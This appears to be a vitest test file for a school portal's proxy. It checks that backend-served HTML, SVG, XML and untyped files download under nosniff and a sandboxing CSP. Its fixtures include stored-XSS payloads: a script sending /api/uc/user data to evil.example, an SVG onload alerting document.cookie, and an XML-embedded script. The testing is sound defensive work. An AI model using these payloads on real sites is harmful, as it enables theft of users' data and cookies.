/**
 * what a school backend sends cannot script the portal. A real local backend answers
 * the kinds of file a school's store holds (an uploaded HTML page and SVG, XML, a file of no type, JSON,
 * an image, a PDF); through the host, behind API_TARGET and from the in-process backend alike, each
 * leaves with nosniff and the sandboxing CSP, and whatever a browser would render as a page of its own
 * downloads instead. The backend's own login page stays a page the browser can use.
 */
import { createServer, type Server } from 'node:http';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { proxiedAnswerPolicy } from '../proxiedAnswerHeaders.ts';
import { hostPerTest, listenOnFreePort, request } from './hostFixtures.ts';

const stored = '<html><body><script>fetch("/api/uc/user").then((r) => r.text()).then((t) => fetch("https://evil.example/?" + t))</script></body></html>';
const png = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

/** The backend's files by the name after `file=` (or the last path segment): content type, body, and its own headers. */
const files: Record<string, { type?: string; body: string | Buffer; headers?: Record<string, string> }> = {
  'page.html': { type: 'text/html; charset=utf-8', body: stored },
  'inline.html': { type: 'text/html', body: stored, headers: { 'Content-Disposition': `inline; filename*=UTF-8''${encodeURIComponent('通知.html')}` } },
  'image.svg': { type: 'image/svg+xml', body: '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)"/>' },
  'feed.xml': { type: 'application/xml', body: '<a:script xmlns:a="http://www.w3.org/1999/xhtml">alert(1)</a:script>' },
  'untyped.bin': { body: stored },
  'list.json': { type: 'application/json', body: JSON.stringify({ e: 0, m: '', d: { list: [] } }) },
  'photo.png': { type: 'image/png', body: png },
  'paper.pdf': { type: 'application/pdf', body: '%PDF-1.4\n%%EOF\n', headers: { 'Content-Disposition': "inline; filename*=UTF-8''paper.pdf" } },
  'own-csp.html': { type: 'text/html', body: stored, headers: { 'Content-Security-Policy': "script-src 'unsafe-inline'" } },
  login: {
    type: 'text/html; charset=utf-8',
    body: '<form method="post" action="/api/uc/login"></form>',
    headers: { 'Content-Security-Policy': "default-src 'none'; form-action 'self'" },
  },
};
const fileOf = (url: URL) => url.searchParams.get('file')?.split('/').at(-1) ?? url.pathname.split('/').at(-1)!;

let backend: Server;
let backendUrl: string;
beforeAll(async () => {
  backend = createServer((req, res) => {
    const file = files[fileOf(new URL(req.url!, 'http://backend'))];
    if (!file) return void res.writeHead(404, { 'Content-Type': 'text/plain' }).end('not found');
    res.writeHead(200, { ...(file.type ? { 'Content-Type': file.type } : {}), ...file.headers });
    res.end(file.body);
  });
  backendUrl = `${await listenOnFreePort(backend)}/school/api`;
});
afterAll(() => new Promise<void>((resolve) => backend.close(() => resolve())));

// The demo manifest's login path is left at its default, /api/uc/login.
const env = hostPerTest();

/** The same backend two ways: a school's behind API_TARGET, and in process (the host hands it the request, it answers from the same server). */
const backends = {
  'behind API_TARGET': () => ({ apiTarget: backendUrl }),
  'in process': () => ({
    api: async (req: Request) => {
      const url = new URL(req.url);
      const answer = await fetch(`${backendUrl}${url.pathname.replace(/^\/api/, '')}${url.search}`);
      // Passed on as the sandbox would hand over its own Response.
      return new Response(answer.body, { status: answer.status, headers: answer.headers });
    },
  }),
};

describe.each(Object.entries(backends))('backend answers %s', (_, backendOptions) => {
  const host = () => env.host(backendOptions());
  const get = (path: string) => request(host(), path, { headers: { accept: 'text/html' } });

  it.each([
    ['/site/attach?file=all/2026/page.html', 'attachment'],
    ['/site/attach?file=all/2026/inline.html', `attachment; filename*=UTF-8''${encodeURIComponent('通知.html')}`],
    ['/site/attach?file=all/2026/image.svg', 'attachment'],
    ['/site/attach?file=all/2026/feed.xml', 'attachment'],
    ['/site/attach?file=all/2026/untyped.bin', 'attachment'],
    ['/api/files/page.html', 'attachment'],
    ['/api/files/own-csp.html', 'attachment'],
  ])('a stored page opened directly (%s) downloads, sandboxed, and is never sniffed', async (path, disposition) => {
    const response = await get(path);
    expect(response.status).toBe(200);
    expect(response.headers.get('content-disposition')).toBe(disposition);
    // The backend's own CSP (here a weak one) does not survive: the host's policy replaces it.
    expect(response.headers.get('content-security-policy')).toBe(proxiedAnswerPolicy);
    expect(response.headers.get('x-content-type-options')).toBe('nosniff');
    // The bytes themselves are passed on unchanged: a download, not a rewritten file.
    expect((await response.arrayBuffer()).byteLength).toBeGreaterThan(0);
  });

  it.each([
    ['/site/attach?file=all/2026/photo.png', 'image/png', null],
    ['/site/attach?file=all/2026/paper.pdf', 'application/pdf', "inline; filename*=UTF-8''paper.pdf"],
    ['/api/news/list.json', 'application/json', null],
  ])('%s keeps working in place for the portal: its type and disposition stay, under nosniff and the CSP', async (path, type, disposition) => {
    const response = await get(path);
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe(type);
    expect(response.headers.get('content-disposition')).toBe(disposition);
    expect(response.headers.get('content-security-policy')).toBe(proxiedAnswerPolicy);
    expect(response.headers.get('x-content-type-options')).toBe('nosniff');
  });

  it('an image arrives byte for byte', async () => {
    expect(Buffer.from(await (await get('/site/attach?file=all/2026/photo.png')).arrayBuffer())).toEqual(png);
  });

  it("the backend's login page (the manifest's login.path) stays a page with its own CSP, so its form posts from the portal", async () => {
    const response = await get('/api/uc/login?redirect_url=%2Fnews%2Findex');
    expect(response.headers.get('content-disposition')).toBeNull();
    expect(response.headers.get('content-security-policy')).toBe("default-src 'none'; form-action 'self'");
    expect(response.headers.get('x-content-type-options')).toBe('nosniff');
    // Only that path: the same page anywhere else is a stored file like any other.
    const elsewhere = await get('/api/files/login');
    expect(elsewhere.headers.get('content-disposition')).toBe('attachment');
    expect(elsewhere.headers.get('content-security-policy')).toBe(proxiedAnswerPolicy);
  });

  it('a school whose manifest was never valid still has its login page (the default path) as a page, not a download', async () => {
    env.dirs.writeSite('demo', '{ "id": "demo", "apps": ');
    const response = await get('/api/uc/login?redirect_url=%2F');
    expect(response.headers.get('content-disposition')).toBeNull();
    expect(response.headers.get('content-security-policy')).toBe("default-src 'none'; form-action 'self'");
    expect((await get('/api/files/page.html')).headers.get('content-disposition')).toBe('attachment');
  });

  it("a backend's HTML error page is not a document of the portal either", async () => {
    const response = await get('/api/missing/page');
    expect(response.status).toBe(404);
    expect(response.headers.get('content-security-policy')).toBe(proxiedAnswerPolicy);
  });
});

describe('answers the host makes itself for a backend', () => {
  it('the 502 envelope of a failed in-process backend carries the policy too', async () => {
    const h = env.host({
      api: () => {
        throw new Error('db closed');
      },
    });
    const response = await request(h, '/api/news/list');
    expect(response.status).toBe(502);
    expect(response.headers.get('content-security-policy')).toBe(proxiedAnswerPolicy);
    expect(response.headers.get('content-disposition')).toBeNull();
  });

  it('a redirect keeps no disposition (the browser follows it, there is nothing to download)', async () => {
    const h = env.host({ api: () => new Response(null, { status: 302, headers: { Location: '/news/index' } }) });
    const response = await request(h, '/api/corp/index');
    expect(response.status).toBe(302);
    expect(response.headers.get('content-disposition')).toBeNull();
  });
});
